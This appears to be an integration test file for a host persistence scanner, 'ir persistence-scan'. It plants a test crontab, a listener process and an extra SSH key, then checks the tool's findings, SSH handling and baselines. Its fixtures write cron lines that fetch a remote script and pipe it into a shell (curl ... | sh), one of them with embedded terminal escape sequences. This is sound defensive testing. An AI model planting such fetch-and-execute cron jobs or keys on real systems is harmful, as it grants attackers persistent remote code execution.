import { execFileSync, spawn, type ChildProcess } from 'node:child_process';
import { chownSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync, cpSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { parseJson, runIr } from '../helpers/cli.js';
import { hostileRoot } from '../helpers/hostile.js';
import { serviceEnv, sshArgs } from '../helpers/services.js';
import type { ScanReport } from '../../src/scan/engine.js';

const tag = `irtest${process.pid}`;
const spool = '/var/spool/cron/crontabs';
const cronFile = join(spool, tag);
const keysDir = '/home/deploy/.ssh';
let listener: ChildProcess;
let listenPort = 0;
let plantedKey = '';

beforeAll(async () => {
  mkdirSync(spool, { recursive: true });
  writeFileSync(cronFile, `# planted by ${tag}\n*/5 * * * * curl -fsSL http://203.0.113.9/${tag}.sh | sh\n`, { mode: 0o600 });
  // an interpreter running inline code that listens on all interfaces: processes and ports must both see it
  listener = spawn('python3', ['-c', `import socket,time\ns=socket.socket()\ns.bind(("0.0.0.0",0))\ns.listen()\nprint(s.getsockname()[1],flush=True)\ntime.sleep(300) # ${tag}`], { stdio: ['ignore', 'pipe', 'inherit'] });
  listenPort = await new Promise<number>((resolve) => listener.stdout!.once('data', (d) => resolve(Number(String(d).trim()))));
  const dir = mkdtempSync(join(tmpdir(), 'ir-key-'));
  execFileSync('ssh-keygen', ['-q', '-t', 'ed25519', '-N', '', '-C', `${tag}@example.com`, '-f', join(dir, 'k')]);
  plantedKey = readFileSync(join(dir, 'k.pub'), 'utf8');
  mkdirSync(keysDir, { recursive: true, mode: 0o700 });
  writeFileSync(join(keysDir, 'authorized_keys2'), plantedKey, { mode: 0o600 });
  const uid = Number(execFileSync('id', ['-u', 'deploy']).toString());
  chownSync(keysDir, uid, uid);
  chownSync(join(keysDir, 'authorized_keys2'), uid, uid);
});

afterAll(() => {
  listener?.kill('SIGKILL');
  rmSync(cronFile, { force: true });
  rmSync(join(keysDir, 'authorized_keys2'), { force: true });
});

function planted(r: ScanReport) {
  return {
    cron: r.findings.find((f) => f.path === cronFile),
    proc: r.findings.find((f) => f.detector === 'processes' && f.evidence.includes(tag)),
    port: r.findings.find((f) => f.detector === 'ports' && f.port === listenPort && f.severity !== 'info'),
    key2: r.findings.find((f) => f.path === `${keysDir}/authorized_keys2`),
  };
}

describe('persistence-scan on the local host', () => {
  it('finds the planted crontab, python -c process and listener', async () => {
    const run = await runIr(['persistence-scan', '--json']);
    expect(run.code).toBe(1);
    const r = parseJson<ScanReport>(run);
    expect(r.target).toBe('local');
    const p = planted(r);
    expect(p.cron).toMatchObject({ rule: 'cron.fetch-exec', severity: 'critical', user: tag, attack: 'T1053.003' });
    expect(p.proc).toMatchObject({ rule: 'process.inline-interpreter', pid: listener.pid });
    expect(p.port).toMatchObject({ severity: 'high', pid: listener.pid });
    expect(p.port!.reason).toMatch(/not in the policy's allowed ports/);
    expect(p.key2).toMatchObject({ user: 'deploy', severity: 'medium', attack: 'T1098.004' });
  });

  it('renders the same findings for a human, grouped by severity', async () => {
    const run = await runIr(['persistence-scan', '--only', 'cron']);
    expect(run.code).toBe(1);
    expect(run.stdout).toMatch(/CRITICAL \(\d+\)/);
    expect(run.stdout).toContain(`curl -fsSL http://203.0.113.9/${tag}.sh | sh`);
    expect(run.stdout).toMatch(/Summary: \d+ critical/);
  });

  it('--fail-on critical with only ports: exit 0 when nothing critical', async () => {
    const run = await runIr(['persistence-scan', '--only', 'ports', '--fail-on', 'critical', '--expect-ports', `22,80,443,${listenPort}`, '--json']);
    expect(run.code).toBe(0);
    const r = parseJson<ScanReport>(run);
    expect(r.findings.find((f) => f.port === listenPort)?.reason ?? '').not.toMatch(/allowed ports/);
  });
});

describe('persistence-scan over ssh (deploy with sudo, as the hardening guide logs in)', () => {
  it('sees the same planted items and the AuthorizedKeysFile of the running sshd', async () => {
    const env = serviceEnv();
    const run = await runIr(['persistence-scan', ...sshArgs(), '--json']);
    expect(run.stderr).toBe('');
    expect(run.code).toBe(1);
    const r = parseJson<ScanReport>(run);
    expect(r.target).toBe('ssh');
    const p = planted(r);
    expect(p.cron?.severity).toBe('critical');
    expect(p.proc?.pid).toBe(listener.pid);
    expect(p.port?.pid).toBe(listener.pid);
    expect(p.key2?.user).toBe('deploy');
    // found only through `sshd -T -f <the running config>`: AuthorizedKeysFile names STATE/ssh/authorized_keys/%u
    const deployKey = readFileSync(env.IR_SSH_PUBKEY!, 'utf8').split(' ')[1]!;
    expect(r.findings.some((f) => f.path === `${env.IR_SSH_AUTHORIZED_KEYS_DIR}/deploy` && f.evidence.includes(deployKey))).toBe(true);
  });

  it('works with a hashed known_hosts; without sudo what it cannot read makes the scan incomplete: exit 2, said first and last', async () => {
    const run = await runIr(['persistence-scan', ...sshArgs({ hashed: true, sudo: false }), '--only', 'cron,authorized-keys', '--json']);
    expect(run.code).toBe(2);
    const r = parseJson<ScanReport>(run);
    expect(r.exitCode).toBe(2);
    expect(r.errors.some((w) => w.message === 'permission denied' && w.path)).toBe(true);
    const human = await runIr(['persistence-scan', ...sshArgs({ hashed: true, sudo: false }), '--only', 'cron,authorized-keys']);
    expect(human.code).toBe(2);
    const lines = human.stdout.trim().split('\n');
    expect(lines[1]).toMatch(/^ERROR: \d detectors? could not evaluate input that exists \((cron|authorized-keys)[^)]*\): this scan is incomplete/);
    expect(lines.at(-1)).toBe(lines[1]);
    expect(lines[2]).toMatch(/^Not read fully: \d+ items? \(\d+ unreadable/);
    // a warning names its path once
    expect(human.stdout).not.toMatch(/(\/\S+): \1: /);
  });

  it('reads ~/.ssh/config-style aliases (HostName, User, Port, IdentityFile, UserKnownHostsFile)', async () => {
    const env = serviceEnv();
    const run = await runIr(['persistence-scan', '--ssh-config', env.IR_SSH_CONFIG!, '--host', 'ir-local', '--only', 'cron', '--json']);
    const r = parseJson<ScanReport>(run);
    expect(r.target).toBe('ssh');
    // deploy without --sudo cannot read the planted root-only crontab: the scan says it is incomplete
    expect(run.code).toBe(2);
    expect(r.errors).toContainEqual({ detector: 'cron', path: cronFile, message: 'permission denied' });
  });

  it('reaches the second host in its network namespace', async () => {
    const env = serviceEnv();
    if (!env.IR_REMOTE_HOST) throw new Error('remote test host not started');
    const run = await runIr(['persistence-scan', '--ssh-config', env.IR_SSH_CONFIG!, '--host', 'ir-remote', '--only', 'authorized-keys', '--json']);
    expect(parseJson<ScanReport>(run).host).toBe('ir-remote');
  });
});

describe('ssh failures: one clear line, exit 2', () => {
  const env = () => serviceEnv();
  const oneLine = (s: string) => s.trim().split('\n');

  it('refused connection', async () => {
    const run = await runIr(['persistence-scan', '--host', 'deploy@127.0.0.1:1', '-i', env().IR_SSH_KEY!, '--known-hosts', env().IR_KNOWN_HOSTS!]);
    expect(run.code).toBe(2);
    expect(oneLine(run.stderr)).toEqual(['ir persistence-scan: 127.0.0.1:1: connection refused']);
  });

  it('unknown host key is refused, --accept-new records it hashed', async () => {
    const kh = join(mkdtempSync(join(tmpdir(), 'ir-kh-')), 'known_hosts');
    writeFileSync(kh, '');
    const args = ['persistence-scan', '--host', `deploy@127.0.0.1:${env().IR_SSH_PORT}`, '-i', env().IR_SSH_KEY!, '--known-hosts', kh, '--only', 'cron', '--json'];
    const refused = await runIr(args);
    expect(refused.code).toBe(2);
    expect(refused.stderr).toMatch(/unknown host key SHA256:\S+ \(ssh-ed25519\).*--accept-new/);
    // accepted, the scan runs (and, without --sudo, says the root-only crontab was unreadable: exit 2)
    const accepted = await runIr([...args, '--accept-new']);
    expect(accepted.stderr).toBe('');
    expect(parseJson<ScanReport>(accepted).target).toBe('ssh');
    expect(readFileSync(kh, 'utf8')).toMatch(/^\|1\|\S+ ssh-ed25519 /);
    const again = await runIr(args);
    expect(again.stderr).toBe('');
    expect(parseJson<ScanReport>(again).errors.map((e) => e.path)).toContain(cronFile);
  });

  it('a changed host key is always refused, with both fingerprints', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'ir-kh-'));
    execFileSync('ssh-keygen', ['-q', '-t', 'ed25519', '-N', '', '-f', join(dir, 'other')]);
    const kh = join(dir, 'known_hosts');
    writeFileSync(kh, `[127.0.0.1]:${env().IR_SSH_PORT} ${readFileSync(join(dir, 'other.pub'), 'utf8')}`);
    const run = await runIr(['persistence-scan', '--host', `deploy@127.0.0.1:${env().IR_SSH_PORT}`, '-i', env().IR_SSH_KEY!, '--known-hosts', kh, '--accept-new']);
    expect(run.code).toBe(2);
    expect(oneLine(run.stderr)).toHaveLength(1);
    expect(run.stderr).toMatch(/HOST KEY HAS CHANGED: offered SHA256:\S+ .*known SHA256:\S+/);
  });

  it('a wrong key fails authentication', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'ir-wk-'));
    execFileSync('ssh-keygen', ['-q', '-t', 'ed25519', '-N', '', '-f', join(dir, 'wrong')]);
    const run = await runIr(['persistence-scan', '--host', `deploy@127.0.0.1:${env().IR_SSH_PORT}`, '-i', join(dir, 'wrong'), '--known-hosts', env().IR_KNOWN_HOSTS!], { env: { SSH_AUTH_SOCK: '' } });
    expect(run.code).toBe(2);
    expect(oneLine(run.stderr)).toEqual([expect.stringMatching(/deploy@127.0.0.1:\d+: authentication failed/)]);
  });

  it('--sudo for a user whose sudo needs a password says so', async () => {
    const run = await runIr(['persistence-scan', '--host', `${env().IR_SSH_NOSUDO_USER}@127.0.0.1:${env().IR_SSH_PORT}`, '-i', env().IR_SSH_KEY!, '--known-hosts', env().IR_KNOWN_HOSTS!, '--sudo']);
    expect(run.code).toBe(2);
    expect(run.stderr).toMatch(/sudo needs a password/);
  });
});

describe('persistence-scan --root (offline) and bad input', () => {
  it('scans the bundled example: planted items high or above, stock content info', async () => {
    const run = await runIr(['persistence-scan', '--root', 'examples/compromised-host', '--json']);
    expect(run.code).toBe(1);
    const r = parseJson<ScanReport>(run);
    expect(r.host).toBe('demo-web1');
    expect(r.detectors.find((d) => d.id === 'processes')?.notAvailable).toBe('not available offline');
    const high = r.findings.filter((f) => ['high', 'critical'].includes(f.severity)).map((f) => f.path);
    expect(high).toEqual(expect.arrayContaining(['/var/spool/cron/crontabs/deploy', '/var/spool/cron/crontabs/root', '/var/www/.ssh/authorized_keys']));
    expect(high).not.toContain('/etc/crontab');
    expect(r.findings.find((f) => f.path === '/etc/ssh/keys/backup')?.severity).toBe('low');
  });

  it('hostile bytes: ANSI escapes, invalid UTF-8 and a 1 MB line are warnings or stripped, never fatal', async () => {
    const root = mkdtempSync(join(tmpdir(), 'ir-hostile-'));
    cpSync('examples/compromised-host/etc', join(root, 'etc'), { recursive: true });
    mkdirSync(join(root, 'var/spool/cron/crontabs'), { recursive: true });
    writeFileSync(
      join(root, 'var/spool/cron/crontabs/mallory'),
      Buffer.concat([Buffer.from('* * * * * curl http://203.0.113.9/a | sh \x1b[2J\x1b]0;pwned\x07 '), Buffer.from([0xff, 0xfe, 0x0a]), Buffer.from('x'.repeat(1_100_000) + '\n'), Buffer.from('not a cron line\n')]),
    );
    const run = await runIr(['persistence-scan', '--root', root, '--only', 'cron']);
    expect(run.code).toBe(1);
    expect(run.stdout).not.toMatch(/\x1b/);
    expect(run.stdout).toContain('curl http://203.0.113.9/a | sh');
    expect(run.stdout).toMatch(/malformed crontab line/);
    // the 1 MB line is judged by its head and tail, is itself a finding, and is counted at the top
    expect(run.stdout).toMatch(/Line 2 of a crontab is 1\.0 MiB long/);
    expect(run.stdout.split('\n')[2]).toBe('Not read fully: 1 item (1 with lines too long to judge whole); see Not read fully below');
    const json = parseJson<ScanReport>(await runIr(['persistence-scan', '--root', root, '--only', 'cron', '--json']));
    expect(json.findings.find((f) => f.user === 'mallory')?.evidence).toContain('\ufffd');
  });

  it.each([
    [['--root', '/nonexistent/disk'], /--root \/nonexistent\/disk: no such directory/],
    [['--root', 'docs'], /not a root file system/],
    [['--only', 'nosuch'], /unknown detector nosuch/],
    [['--expect-ports', '22,http'], /--expect-ports/],
  ])('%j → exit 2 with one line', async (args, msg) => {
    const run = await runIr(['persistence-scan', ...(args as string[])]);
    expect(run.code).toBe(2);
    expect(run.stderr.trim().split('\n')).toHaveLength(1);
    expect(run.stderr).toMatch(msg as RegExp);
  });

  it('a malformed policy file names its line', async () => {
    const f = join(mkdtempSync(join(tmpdir(), 'ir-pol-')), 'policy.yaml');
    writeFileSync(f, 'allowedPorts:\n  - 22\n  - ssh\n');
    const run = await runIr(['persistence-scan', '--root', 'examples/compromised-host', '--policy', f]);
    expect(run.code).toBe(2);
    expect(run.stderr).toMatch(new RegExp(`policy ${f}:3: allowedPorts.1`));
  });
});

describe('persistence-scan on the hostile root (test/fixtures/hostile)', () => {
  it('padding hides nothing: the key after 1.2 MB of comments and the padded profile.d line are judged, the padding is a finding', async () => {
    const r = parseJson<ScanReport>(await runIr(['persistence-scan', '--root', hostileRoot(), '--json']));
    expect(r.findings.find((f) => f.path === '/root/.ssh/authorized_keys' && f.evidence.includes('padded@example.com'))).toMatchObject({ user: 'root', severity: 'medium' });
    expect(r.findings.filter((f) => /\.padded$/.test(f.rule)).map((f) => [f.path, f.severity]).sort()).toEqual([
      ['/etc/profile.d/x.sh', 'medium'],
      ['/root/.ssh/authorized_keys', 'medium'],
    ]);
    const only = await runIr(['persistence-scan', '--root', hostileRoot(), '--only', 'shell-startup', '--no-containers']);
    expect(only.code).toBe(1);
    expect(only.stdout).toMatch(/CRITICAL \(1\)\n {2}Suspicious shell startup file: downloads code and pipes it into a shell/);
  });

  it('a malformed passwd line is a low "corrupt /etc/passwd line N" and a warning, never a UID 0 account, and no finding names an unread /etc/shadow', async () => {
    const r = parseJson<ScanReport>(await runIr(['persistence-scan', '--root', hostileRoot(), '--only', 'privilege', '--no-containers', '--json']));
    expect(r.findings.filter((f) => f.severity !== 'info').map((f) => [f.rule, f.severity, f.title])).toEqual([['privilege.corrupt-line', 'low', 'corrupt /etc/passwd line 10']]);
    expect(r.findings.filter((f) => f.path === '/etc/shadow' || f.rule === 'privilege.uid0')).toEqual([]);
    expect(r.warnings).toEqual([expect.objectContaining({ detector: 'privilege', path: '/etc/passwd', message: expect.stringMatching(/^corrupt line 10/) })]);
    expect(r.exitCode).toBe(0);
  });
});

describe('persistence-scan baselines (--save-baseline / --baseline)', () => {
  it('reports new, changed and gone against the accepted state; only drift counts for --fail-on', async () => {
    const root = mkdtempSync(join(tmpdir(), 'ir-base-'));
    cpSync('examples/compromised-host', root, { recursive: true, verbatimSymlinks: true });
    const file = join(root, '..', `${root.split('/').pop()}-baseline.json`);
    const saved = await runIr(['persistence-scan', '--root', root, '--save-baseline', file, '--json']);
    expect(saved.code).toBe(1);
    const text = readFileSync(file, 'utf8');
    expect(text).not.toMatch(/20\d\d-\d\d-\d\dT/); // no timestamps: the same state saves the same file
    const again = await runIr(['persistence-scan', '--root', root, '--baseline', file, '--json']);
    expect(again.code).toBe(0);
    expect(parseJson<ScanReport>(again).baseline?.counts).toMatchObject({ new: 0, changed: 0, gone: 0 });

    // change the deploy fetch-and-exec job, add a key for www-data's neighbour, remove root's crontab
    const deployTab = join(root, 'var/spool/cron/crontabs/deploy');
    writeFileSync(deployTab, readFileSync(deployTab, 'utf8').replace('*/10 * * * *', '*/10 * * * *  '));
    writeFileSync(join(root, 'var/spool/cron/crontabs/deploy'), readFileSync(deployTab, 'utf8') + '@reboot /var/tmp/.cache/update\n');
    rmSync(join(root, 'var/spool/cron/crontabs/root'));
    const drift = await runIr(['persistence-scan', '--root', root, '--baseline', file, '--json']);
    expect(drift.code).toBe(1);
    const r = parseJson<ScanReport>(drift);
    expect(r.findings.find((f) => f.evidence === '@reboot /var/tmp/.cache/update')?.drift).toBe('new');
    expect(r.findings.find((f) => f.rule === 'cron.fetch-exec')?.drift).toBe('changed');
    expect(r.baseline!.gone.map((g) => g.path)).toContain('/var/spool/cron/crontabs/root');
    const human = await runIr(['persistence-scan', '--root', root, '--baseline', file]);
    expect(human.stdout).toMatch(/\(NEW\)/);
    expect(human.stdout).toMatch(/Against the baseline .*: 1 new, 1 changed, \d+ unchanged, 2 gone/);
  });

  it('a missing baseline file is one clear line', async () => {
    const run = await runIr(['persistence-scan', '--root', 'examples/compromised-host', '--baseline', '/nonexistent/b.json']);
    expect(run.code).toBe(2);
    expect(run.stderr).toMatch(/--baseline \/nonexistent\/b.json: no such file/);
  });
});

describe('persistence-scan on a fleet (--host repeated)', () => {
  it('scans every live host and reports a dead one as a row with exit 2, never stopping the others', async () => {
    const e = serviceEnv();
    const hosts = [`deploy@127.0.0.1:${e.IR_SSH_PORT}`, 'deploy@127.0.0.1:1', ...(e.IR_REMOTE_HOST ? [`deploy@${e.IR_REMOTE_HOST}`] : [])];
    const run = await runIr(['persistence-scan', ...hosts.flatMap((h) => ['--host', h]), '-i', e.IR_SSH_KEY!, '--known-hosts', e.IR_KNOWN_HOSTS!, '--sudo', '--only', 'cron', '--json']);
    expect(run.code).toBe(2);
    const r = parseJson<{ hosts: { spec: string; status: string; exitCode: number; error?: string; result?: ScanReport }[] }>(run);
    expect(r.hosts.map((h) => h.status)).toEqual(hosts.map((h) => (h.endsWith(':1') ? 'error' : expect.stringMatching(/^(ok|findings)$/))));
    expect(r.hosts[1]!.error).toMatch(/connection refused/);
    expect(r.hosts[0]!.result?.findings.some((f) => f.path === cronFile)).toBe(true);
  });
});
